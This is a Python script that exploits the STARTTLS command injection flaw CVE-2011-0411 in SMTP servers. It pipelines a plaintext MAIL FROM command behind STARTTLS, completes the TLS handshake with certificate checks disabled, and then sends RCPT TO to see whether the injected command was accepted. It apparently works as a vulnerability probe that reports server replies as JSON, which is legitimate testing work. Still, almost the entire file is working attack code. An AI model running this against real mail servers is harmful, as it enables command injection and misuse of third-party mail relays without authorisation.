"""STARTTLS command injection (CVE-2011-0411): pipeline a plaintext MAIL
right behind STARTTLS, do the TLS handshake, then send RCPT as if that MAIL
had been accepted. argv: host port. Prints the replies as JSON.

Replies before the handshake are read one byte at a time, so that nothing
the server sends after its 220 is consumed as text.
"""

import json
import socket
import ssl
import sys


def read_reply(sock):
    lines = []
    while True:
        line = b""
        while not line.endswith(b"\n"):
            byte = sock.recv(1)
            if not byte:
                raise EOFError("connection closed after %r" % (lines,))
            line += byte
        text = line.decode("utf-8", "replace").rstrip("\r\n")
        lines.append(text[4:])
        if text[3:4] != "-":
            return {"code": int(text[:3]), "text": "\n".join(lines)}


host, port = sys.argv[1], int(sys.argv[2])
out = {"error": None}
sock = socket.create_connection((host, port), timeout=30)
try:
    out["greeting"] = read_reply(sock)
    sock.sendall(b"EHLO client.test\r\n")
    out["ehlo"] = read_reply(sock)
    sock.sendall(b"STARTTLS\r\nMAIL FROM:<evil@remote.test>\r\n")
    out["starttls"] = read_reply(sock)
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the relay's certificate is self-signed
    tls = ctx.wrap_socket(sock)
    tls.sendall(b"RCPT TO:<alice@hosted.test>\r\n")
    out["rcpt"] = read_reply(tls)
    tls.sendall(b"QUIT\r\n")
    out["quit"] = read_reply(tls)
except (OSError, EOFError, ValueError) as e:
    out["error"] = repr(e)
finally:
    sock.close()
print(json.dumps(out))
